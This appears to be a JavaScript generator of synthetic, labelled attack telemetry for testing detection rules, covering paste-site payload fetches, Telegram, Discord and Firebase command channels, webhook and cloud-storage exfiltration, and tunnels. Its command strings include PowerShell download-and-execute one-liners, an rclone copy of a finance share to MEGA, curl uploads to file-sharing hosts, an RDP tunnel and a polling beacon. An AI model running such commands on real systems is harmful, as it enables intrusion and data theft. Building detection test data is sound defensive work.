// Labelled attack activity: one function per incident. Every event an incident writes carries a label
// { pattern, step } that lands in samples/labels.json, so tests can say exactly which events a rule
// must match ("all process starts of rclone and curl uploads"), derived from labels, not guessed.
//
// The incidents follow public reporting on each abuse pattern (paste-site payloads and dead drops,
// Telegram/Discord bot C2, Discord webhook and webhook.site exfiltration, rclone to MEGA, transfer.sh
// and file.io uploads, Dropbox API exfiltration, TryCloudflare/ngrok tunnels and WebDAV staging,
// Cloudflare Workers relays, Firebase Realtime Database C2 in Android and iOS malware); hosts, ids and
// tokens are invented.

export const PATTERNS = {
  'paste-payload-fetch': { description: 'A script or implant fetches a payload or its C2 address from a paste site (pastebin raw, paste.ee, rentry, GitHub gist raw).', techniques: ['T1102.001', 'T1105', 'T1481.001'] },
  'telegram-bot-c2': { description: 'An implant polls the Telegram Bot API for commands and uploads results (getUpdates, sendMessage, sendDocument).', techniques: ['T1102.002', 'T1481.002'] },
  'discord-bot-c2': { description: 'A Python implant runs a Discord bot: gateway websocket plus REST polling of a channel.', techniques: ['T1102.002'] },
  'webhook-exfil': { description: 'Stolen data posted to a Discord webhook or webhook.site.', techniques: ['T1567.004'] },
  'cloud-storage-upload': { description: 'Bulk upload to cloud storage: rclone to MEGA, curl to transfer.sh and file.io, Python to the Dropbox API.', techniques: ['T1567.002'] },
  tunnel: { description: 'Tunnels through TryCloudflare and ngrok: cloudflared quick tunnel for RDP, WebDAV staging on a trycloudflare host, ngrok agent, payload on ngrok-free.app.', techniques: ['T1572', 'T1090', 'T1102'] },
  'serverless-relay': { description: 'PowerShell beacon to a Cloudflare Workers relay (*.workers.dev).', techniques: ['T1102.002', 'T1583.006'] },
  'firebase-relay': { description: 'A sideloaded Android app and an enterprise-signed iOS app use a Firebase Realtime Database as command relay.', techniques: ['T1481.002'] },
};

const SYS = 'C:\\Windows\\System32\\';
const PS = `${SYS}WindowsPowerShell\\v1.0\\powershell.exe`;
const PS_UA = 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4894';
const enc = (script) => Buffer.from(script, 'utf16le').toString('base64');

export function generateAttacks(ctx) {
  const { rng, at, ws, server, phone, proc, launch, connect, mobileReq } = ctx;

  // --- paste-payload-fetch -------------------------------------------------------------------
  {
    const pattern = 'paste-payload-fetch';
    const m = ws('WS-1007');
    const pasteId = rng.b62(8);
    const word = proc(m, { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' });
    const p = launch(at(222), m, {
      image: PS, parent: word, original: 'PowerShell.EXE', description: 'Windows PowerShell', company: 'Microsoft Corporation',
      parentCmd: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${m.user}\\Downloads\\Remittance_Advice_0314.doc" /o ""`,
      cmd: `powershell.exe -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/${pasteId}')"`,
    }, { pattern, step: 'powershell-start' });
    for (let i = 0; i < 4; i++) {
      connect(at(222.1 + i * 30), m, p, `https://pastebin.com/raw/${pasteId}`, { ua: '-', to: ['sysmon22', 'sysmon3', 'proxy', 'dns'], label: { pattern, step: 'paste-fetch' } });
    }

    const m2 = ws('WS-1019');
    const pasteEe = rng.b62(5);
    const wscript = launch(at(365), m2, {
      image: `${SYS}wscript.exe`, parent: proc(m2, { image: 'C:\\Windows\\explorer.exe' }), original: 'wscript.exe', description: 'Microsoft ® Windows Based Script Host', company: 'Microsoft Corporation',
      cmd: `"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\${m2.user}\\Downloads\\invoice_0422.js"`,
    }, { pattern, step: 'script-host-start' });
    const p2 = launch(at(365.2), m2, {
      image: PS, parent: wscript, original: 'PowerShell.EXE', description: 'Windows PowerShell', company: 'Microsoft Corporation',
      cmd: `powershell.exe -NoP -NonI -W Hidden -Enc ${enc(`iwr https://paste.ee/r/${pasteEe} -UseBasicParsing | iex`)}`,
    }, { pattern, step: 'powershell-start' });
    connect(at(365.3), m2, p2, `https://paste.ee/r/${pasteEe}`, { ua: PS_UA, to: ['sysmon22', 'sysmon3', 'proxy', 'dns'], label: { pattern, step: 'paste-fetch' } });

    const m3 = ws('WS-1033');
    const rentry = rng.b62(6).toLowerCase();
    const cmd = proc(m3, { image: `${SYS}cmd.exe`, cmd: `cmd.exe /c curl -s https://rentry.co/${rentry}/raw -o %TEMP%\\c.txt` });
    const curl = launch(at(500), m3, {
      image: `${SYS}curl.exe`, parent: cmd, original: 'curl.exe', description: 'The curl executable', company: 'curl, https://curl.se/',
      cmd: `curl -s https://rentry.co/${rentry}/raw -o C:\\Users\\${m3.user}\\AppData\\Local\\Temp\\c.txt`,
    }, { pattern, step: 'curl-start' });
    connect(at(500.05), m3, curl, `https://rentry.co/${rentry}/raw`, { ua: 'curl/8.9.1', to: ['sysmon22', 'sysmon3', 'proxy', 'dns', 'mde'], label: { pattern, step: 'paste-fetch' } });
    const gist = `https://gist.githubusercontent.com/devtools-sync/${rng.hex(32)}/raw/${rng.hex(40)}/update.ps1`;
    const p3 = launch(at(501), m3, {
      image: PS, parent: cmd, original: 'PowerShell.EXE', description: 'Windows PowerShell', company: 'Microsoft Corporation',
      cmd: `powershell.exe -ep bypass -c "iex(iwr -useb '${gist}')"`,
    }, { pattern, step: 'powershell-start' });
    connect(at(501.05), m3, p3, gist, { ua: PS_UA, to: ['sysmon22', 'sysmon3', 'proxy', 'dns', 'mde'], label: { pattern, step: 'paste-fetch' } });

    // Android: the trojanised flashlight app reads its relay address from a paste (T1481.001).
    const d = phone('android', 0);
    for (let i = 0; i < 2; i++) mobileReq(at(130 + i * 200), d, 'brightled', { url: `https://pastebin.com/raw/${rng.b62(8)}` }, { pattern, step: 'mobile-dead-drop' });

    // The CSV proxy excerpt has its own raw paste fetch.
    connect(at(410), ws('WS-1041'), { image: PS, user: `CORP\\${ws('WS-1041').user}` }, `https://pastebin.com/raw/${rng.b62(8)}`, { ua: PS_UA, to: ['csv'], label: { pattern, step: 'paste-fetch' } });
  }

  // --- telegram-bot-c2 -----------------------------------------------------------------------
  {
    const pattern = 'telegram-bot-c2';
    const token = `${rng.digits(10)}:AA${rng.b62(33)}`;
    const m = ws('WS-1012');
    const implant = launch(at(128), m, {
      image: 'C:\\ProgramData\\Microsoft\\DeviceSync\\devicesync.exe', parent: proc(m, { image: `${SYS}svchost.exe`, user: 'NT AUTHORITY\\SYSTEM' }),
      parentCmd: `${SYS}svchost.exe -k netsvcs -p -s Schedule`, user: 'NT AUTHORITY\\SYSTEM',
      cmd: '"C:\\ProgramData\\Microsoft\\DeviceSync\\devicesync.exe" -service', cwd: `${SYS}`,
    }, { pattern, step: 'implant-start' });
    let t = 128.5;
    for (let i = 0; t < 340; i++) {
      const upload = i === 14;
      connect(at(t), m, implant, `https://api.telegram.org/bot${token}/${upload ? 'sendDocument' : 'getUpdates'}${upload ? '' : `?offset=${rng.int(100000, 999999)}&timeout=30`}`, {
        method: 'POST', ua: 'Go-http-client/1.1', bytesOut: upload ? 412000 : undefined,
        to: i % 4 === 0 ? ['sysmon22', 'dns', 'sysmon3', 'proxy', 'mde'] : ['sysmon3', 'proxy', 'mde'], label: { pattern, step: upload ? 'bot-upload' : 'bot-poll' },
      });
      t += 6 + rng.next() * 3;
    }

    // Same family on another machine, exported as EVTX JSON.
    const m2 = ws('WS-1044');
    const implant2 = launch(at(300), m2, {
      image: 'C:\\ProgramData\\Microsoft\\DeviceSync\\devicesync.exe', parent: proc(m2, { image: `${SYS}svchost.exe`, user: 'NT AUTHORITY\\SYSTEM' }),
      parentCmd: `${SYS}svchost.exe -k netsvcs -p -s Schedule`, user: 'NT AUTHORITY\\SYSTEM', cmd: '"C:\\ProgramData\\Microsoft\\DeviceSync\\devicesync.exe" -service', cwd: SYS,
    }, { pattern, step: 'implant-start' }, 'evtx');
    for (let i = 0; i < 6; i++) {
      connect(at(300.5 + i * 7), m2, implant2, `https://api.telegram.org/bot${token}/getUpdates`, { method: 'POST', to: i % 3 === 0 ? ['evtx22', 'evtx3'] : ['evtx3'], label: { pattern, step: 'bot-poll' } });
    }

    // Android RAT posing as a system update: reports SMS and files to a bot.
    const d = phone('android', 1);
    const tok2 = `${rng.digits(10)}:AA${rng.b62(33)}`;
    for (let i = 0; i < 8; i++) {
      const doc = i % 4 === 3;
      mobileReq(at(90 + i * 47), d, 'sysupdate', { url: `https://api.telegram.org/bot${tok2}/${doc ? 'sendDocument' : 'sendMessage'}`, method: 'POST', bytesOut: doc ? 180000 : 900 }, { pattern, step: doc ? 'bot-upload' : 'bot-message' });
    }
  }

  // --- discord-bot-c2 ------------------------------------------------------------------------
  {
    const pattern = 'discord-bot-c2';
    const m = ws('WS-1040');
    const dropper = proc(m, { image: `C:\\Users\\${m.user}\\Downloads\\FreeNitroGenerator.exe` });
    const bot = launch(at(410), m, {
      image: `C:\\Users\\${m.user}\\AppData\\Roaming\\GameBar\\gamebarsvc.exe`, parent: dropper,
      cmd: `"C:\\Users\\${m.user}\\AppData\\Roaming\\GameBar\\gamebarsvc.exe"`, original: '-', description: '-',
    }, { pattern, step: 'implant-start' });
    const channel = rng.digits(19);
    const ua = 'DiscordBot (https://github.com/Rapptz/discord.py 2.4.0) Python/3.12 aiohttp/3.10.5';
    for (let i = 0; i < 14; i++) {
      const gw = i % 4 === 0;
      const url = gw ? 'https://gateway.discord.gg/?v=10&encoding=json' : `https://discord.com/api/v10/channels/${channel}/messages${i % 3 === 0 ? '' : '?limit=5'}`;
      connect(at(410.2 + i * 9), m, bot, url, { method: gw ? 'GET' : i % 3 === 0 ? 'POST' : 'GET', ua, to: i < 2 ? ['sysmon22', 'dns', 'sysmon3', 'proxy'] : ['sysmon3', 'proxy'], label: { pattern, step: gw ? 'gateway' : 'channel-poll' } });
    }
  }

  // --- webhook-exfil -------------------------------------------------------------------------
  {
    const pattern = 'webhook-exfil';
    const m = ws('WS-1003');
    const rar = proc(m, { image: 'C:\\Program Files\\WinRAR\\WinRAR.exe' });
    const stealer = launch(at(275), m, {
      image: `C:\\Users\\${m.user}\\AppData\\Local\\Temp\\RarSFX0\\svhost.exe`, parent: rar, original: '-', description: '-',
      cmd: `"C:\\Users\\${m.user}\\AppData\\Local\\Temp\\RarSFX0\\svhost.exe"`,
    }, { pattern, step: 'stealer-start' });
    const hook = `https://discord.com/api/webhooks/${rng.digits(19)}/${rng.b62(68)}`;
    for (let i = 0; i < 3; i++) {
      connect(at(275.4 + i * 0.7), m, stealer, hook, { method: 'POST', ua: 'Mozilla/5.0', bytesOut: [3200, 184000, 2100][i], to: i === 0 ? ['sysmon22', 'dns', 'sysmon3', 'proxy'] : ['sysmon3', 'proxy'], label: { pattern, step: 'webhook-post' } });
    }

    const m2 = ws('WS-1028');
    const uuid = rng.guid().toLowerCase();
    const ps = launch(at(455), m2, {
      image: PS, parent: proc(m2, { image: `${SYS}cmd.exe` }), original: 'PowerShell.EXE', description: 'Windows PowerShell', company: 'Microsoft Corporation',
      cmd: `powershell.exe -NoP -c "$i=(systeminfo;whoami /all;ipconfig /all)|Out-String; Invoke-RestMethod -Uri https://webhook.site/${uuid} -Method Post -Body $i"`,
    }, { pattern, step: 'powershell-start' });
    for (let i = 0; i < 2; i++) {
      connect(at(455.2 + i * 0.5), m2, ps, `https://webhook.site/${uuid}`, { method: 'POST', ua: PS_UA, bytesOut: 14000, to: i === 0 ? ['sysmon22', 'dns', 'sysmon3', 'proxy', 'mde'] : ['sysmon3', 'proxy', 'mde'], label: { pattern, step: 'webhook-post' } });
    }

    connect(at(612), ws('WS-1043'), { image: 'C:\\Users\\Public\\svc.exe', user: 'CORP\\x' }, `https://discord.com/api/webhooks/${rng.digits(19)}/${rng.b62(68)}`, { method: 'POST', ua: 'python-requests/2.31.0', bytesOut: 52000, to: ['csv'], label: { pattern, step: 'webhook-post' } });
  }

  // --- cloud-storage-upload ------------------------------------------------------------------
  {
    const pattern = 'cloud-storage-upload';
    const s = server('SRV-FILE01');
    const cmd = proc(s, { image: `${SYS}cmd.exe`, user: 'CORP\\svc_backup' });
    const rcloneSpec = { image: 'C:\\Users\\Public\\Music\\rclone.exe', parent: cmd, user: 'CORP\\svc_backup', original: 'rclone.exe', description: 'Rsync for cloud storage', product: 'Rclone', company: 'https://rclone.org', fileVersion: '1.67.0' };
    launch(at(560), s, { ...rcloneSpec, cmd: 'rclone.exe config create mega mega user archive.store@proton.me pass Zx81!qP0 --config C:\\Users\\Public\\Music\\rclone.conf' }, { pattern, step: 'rclone-config' });
    const rclone = launch(at(561), s, { ...rcloneSpec, cmd: 'rclone.exe copy "\\\\SRV-FILE01\\Finance" mega:exfil-0314 --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12 -q --config C:\\Users\\Public\\Music\\rclone.conf' }, { pattern, step: 'rclone-copy' });
    connect(at(561.1), s, rclone, 'https://g.api.mega.co.nz/cs?id=0&lang=en', { method: 'POST', ua: 'rclone/v1.67.0', to: ['sysmon22', 'dns', 'sysmon3', 'proxy'], label: { pattern, step: 'upload' } });
    const gfs = ['gfs270n114.userstorage.mega.co.nz', 'gfs262n301.userstorage.mega.co.nz'];
    for (let i = 0; i < 8; i++) {
      const host = gfs[i % 2];
      connect(at(561.3 + i * 0.9), s, rclone, `https://${host}/ul/${rng.b62(40)}/${i * 16777216}`, { method: 'POST', ua: 'rclone/v1.67.0', bytesOut: 16777216, to: i < 2 ? ['sysmon22', 'dns', 'sysmon3', 'proxy'] : ['sysmon3', 'proxy'], label: { pattern, step: 'upload' } });
    }

    const m = ws('WS-1045');
    const archive = `C:\\Users\\${m.user}\\AppData\\Local\\Temp\\q.7z`;
    const sh = proc(m, { image: `${SYS}cmd.exe` });
    const c1 = launch(at(600), m, { image: `${SYS}curl.exe`, parent: sh, original: 'curl.exe', description: 'The curl executable', company: 'curl, https://curl.se/', cmd: `curl.exe --upload-file ${archive} https://transfer.sh/q.7z` }, { pattern, step: 'curl-upload' });
    connect(at(600.05), m, c1, 'https://transfer.sh/q.7z', { method: 'PUT', ua: 'curl/8.9.1', bytesOut: 48000000, to: ['sysmon22', 'dns', 'sysmon3', 'proxy', 'mde'], label: { pattern, step: 'upload' } });
    const c2 = launch(at(603), m, { image: `${SYS}curl.exe`, parent: sh, original: 'curl.exe', description: 'The curl executable', company: 'curl, https://curl.se/', cmd: `curl.exe -F "file=@${archive}" https://file.io` }, { pattern, step: 'curl-upload' });
    connect(at(603.05), m, c2, 'https://file.io/', { method: 'POST', ua: 'curl/8.9.1', bytesOut: 48000000, to: ['sysmon22', 'dns', 'sysmon3', 'proxy', 'mde'], label: { pattern, step: 'upload' } });

    const m3 = ws('WS-1021');
    const py = launch(at(380), m3, {
      image: `C:\\Users\\${m3.user}\\AppData\\Local\\Temp\\python-3.11.9-embed-amd64\\python.exe`, parent: proc(m3, { image: PS }), original: 'python.exe', description: 'Python', company: 'Python Software Foundation',
      cmd: `python.exe C:\\Users\\${m3.user}\\AppData\\Local\\Temp\\sync.py`,
    }, { pattern, step: 'python-start' });
    for (let i = 0; i < 4; i++) {
      connect(at(380.3 + i * 1.5), m3, py, 'https://content.dropboxapi.com/2/files/upload', { method: 'POST', ua: 'python-requests/2.31.0', bytesOut: 9000000, to: i === 0 ? ['sysmon22', 'dns', 'sysmon3', 'proxy'] : ['sysmon3', 'proxy'], label: { pattern, step: 'upload' } });
    }
  }

  // --- tunnel --------------------------------------------------------------------------------
  {
    const pattern = 'tunnel';
    const m = ws('WS-1016');
    const cf = launch(at(245), m, {
      image: 'C:\\Users\\Public\\cloudflared.exe', parent: proc(m, { image: `${SYS}cmd.exe` }), original: 'cloudflared.exe', description: 'Cloudflare Tunnel daemon', company: 'Cloudflare, Inc.',
      cmd: 'C:\\Users\\Public\\cloudflared.exe tunnel --url rdp://localhost:3389 --no-autoupdate',
    }, { pattern, step: 'cloudflared-start' });
    connect(at(245.05), m, cf, 'https://api.trycloudflare.com/tunnel', { method: 'POST', ua: 'cloudflared/2024.8.2', to: ['sysmon22', 'dns', 'sysmon3', 'proxy'], label: { pattern, step: 'quick-tunnel' } });
    for (const [i, host] of ['region1.v2.argotunnel.com', 'region2.v2.argotunnel.com', 'region1.v2.argotunnel.com', 'region2.v2.argotunnel.com'].entries()) {
      connect(at(245.1 + i * 0.02), m, cf, `https://${host}/`, { port: 7844, to: i < 2 ? ['sysmon22', 'dns', 'sysmon3'] : ['sysmon3'], label: { pattern, step: 'edge-connection' } });
    }

    const m2 = ws('WS-1026');
    const dav = 'ranked-jeep-pull-wagon.trycloudflare.com';
    launch(at(330), m2, {
      image: `${SYS}rundll32.exe`, parent: proc(m2, { image: `${SYS}svchost.exe`, user: 'NT AUTHORITY\\LOCAL SERVICE' }), original: 'RUNDLL32.EXE', description: 'Windows host process (Rundll32)', company: 'Microsoft Corporation',
      parentCmd: `${SYS}svchost.exe -k LocalService -p -s WebClient`, cmd: `rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie ${dav}@SSL https://${dav}/DavWWWRoot/`,
    }, { pattern, step: 'webdav-start' });
    const webclient = proc(m2, { image: `${SYS}svchost.exe`, user: 'NT AUTHORITY\\LOCAL SERVICE', cmd: `${SYS}svchost.exe -k LocalService -p -s WebClient` });
    for (let i = 0; i < 3; i++) {
      connect(at(330.1 + i * 0.1), m2, webclient, `https://${dav}/DavWWWRoot/${['', 'Invoice_0314.pdf.lnk', 'st.bat'][i]}`, { method: i === 0 ? 'PROPFIND' : 'GET', ua: 'Microsoft-WebDAV-MiniRedir/10.0.19045', to: i === 0 ? ['sysmon22', 'dns', 'sysmon3', 'proxy', 'mde'] : ['sysmon3', 'proxy', 'mde'], label: { pattern, step: 'webdav' } });
    }

    const m3 = ws('WS-1030');
    const ngrok = launch(at(470), m3, {
      image: `C:\\Users\\${m3.user}\\AppData\\Local\\Temp\\ngrok.exe`, parent: proc(m3, { image: PS }), original: 'ngrok.exe', description: 'ngrok agent', company: 'ngrok, Inc.',
      cmd: `ngrok.exe tcp 3389 --authtoken 2f${rng.b62(46)}`,
    }, { pattern, step: 'ngrok-start' });
    for (const [i, host] of ['connect.ngrok-agent.com', 'tunnel.us.ngrok.com', 'tunnel.us.ngrok.com'].entries()) {
      connect(at(470.1 + i * 0.05), m3, ngrok, `https://${host}/`, { to: i < 2 ? ['sysmon22', 'dns', 'sysmon3'] : ['sysmon3'], label: { pattern, step: 'ngrok-session' } });
    }

    const m4 = ws('WS-1036');
    const stage = 'https://7f3a-198-51-100-23.ngrok-free.app/stage2.ps1';
    const ps = launch(at(520), m4, {
      image: PS, parent: proc(m4, { image: `${SYS}mshta.exe` }), original: 'PowerShell.EXE', description: 'Windows PowerShell', company: 'Microsoft Corporation',
      cmd: `powershell.exe -w hidden -c "iwr '${stage}' -OutFile $env:TEMP\\s.ps1; & $env:TEMP\\s.ps1"`,
    }, { pattern, step: 'powershell-start' });
    connect(at(520.1), m4, ps, stage, { ua: PS_UA, to: ['sysmon22', 'dns', 'sysmon3', 'proxy'], label: { pattern, step: 'payload-fetch' } });
  }

  // --- serverless-relay ----------------------------------------------------------------------
  {
    const pattern = 'serverless-relay';
    const m = ws('WS-1024');
    const relay = 'update-check.bluefin-cdn.workers.dev';
    const bid = rng.hex(12);
    const ps = launch(at(150), m, {
      image: PS, parent: proc(m, { image: 'C:\\Windows\\explorer.exe' }), original: 'PowerShell.EXE', description: 'Windows PowerShell', company: 'Microsoft Corporation',
      cmd: `powershell.exe -w hidden -ep bypass -enc ${enc(`while($true){$c=(iwr https://${relay}/api/v2/poll?id=${bid} -UseBasicParsing).Content;if($c){iex $c};sleep 600}`)}`,
    }, { pattern, step: 'powershell-start' });
    for (let i = 0; i < 12; i++) {
      const result = i % 5 === 4;
      connect(at(150.2 + i * 10), m, ps, result ? `https://${relay}/api/v2/result?id=${bid}` : `https://${relay}/api/v2/poll?id=${bid}`, { method: result ? 'POST' : 'GET', ua: PS_UA, to: i % 4 === 0 ? ['sysmon22', 'dns', 'sysmon3', 'proxy', 'mde'] : ['sysmon3', 'proxy', 'mde'], label: { pattern, step: result ? 'beacon-result' : 'beacon' } });
    }
  }

  // --- firebase-relay ------------------------------------------------------------------------
  {
    const pattern = 'firebase-relay';
    for (const [k, idx] of [[0, 0], [1, 2]]) {
      const d = phone('android', idx);
      const db = 'https://brightled-7c2e1-default-rtdb.firebaseio.com';
      const dev = rng.hex(16);
      mobileReq(at(140 + k * 60), d, 'brightled', { url: `${db}/devices/${dev}.json`, method: 'PUT', bytesOut: 1400 }, { pattern, step: 'register' });
      for (let i = 0; i < 10; i++) mobileReq(at(141 + k * 60 + i * 25), d, 'brightled', { url: `${db}/commands/${dev}.json`, method: 'GET' }, { pattern, step: 'command-poll' });
      for (let i = 0; i < 2; i++) mobileReq(at(160 + k * 60 + i * 90), d, 'brightled', { url: `${db}/devices/${dev}/sms.json`, method: 'PUT', bytesOut: 22000 }, { pattern, step: 'exfil' });
      for (let i = 0; i < 2; i++) mobileReq(at(170 + k * 60 + i * 120), d, 'brightled', { url: `${db}/devices/${dev}/loc.json`, method: 'PATCH', bytesOut: 300 }, { pattern, step: 'exfil' });
    }
    const ip = phone('ios', 3);
    const db = 'https://hr-portal-4d21a-default-rtdb.firebaseio.com';
    const vid = rng.hex(12);
    for (let i = 0; i < 3; i++) mobileReq(at(200 + i * 70), ip, 'hrportal', { url: `${db}/v/${vid}.json`, method: 'POST', bytesOut: 5000 }, { pattern, step: 'exfil' });
    for (let i = 0; i < 5; i++) mobileReq(at(205 + i * 40), ip, 'hrportal', { url: `${db}/cmd/${vid}.json`, method: 'GET' }, { pattern, step: 'command-poll' });
  }
}

/** Malicious mobile apps the incidents use (not part of the benign app mix). */
export const MALICIOUS_APPS = {
  brightled: { pkg: 'com.flashlight.brightled', name: 'Bright LED Flashlight', installer: 'com.google.android.packageinstaller', version: '3.1.4' },
  sysupdate: { pkg: 'com.android.systemupdate.service', name: 'System Update', installer: 'com.google.android.packageinstaller', version: '1.0.2' },
  hrportal: { bundle: 'com.hrbenefits.portal', name: 'Benefits Portal', source: 'enterprise', version: '2.0.1' },
};
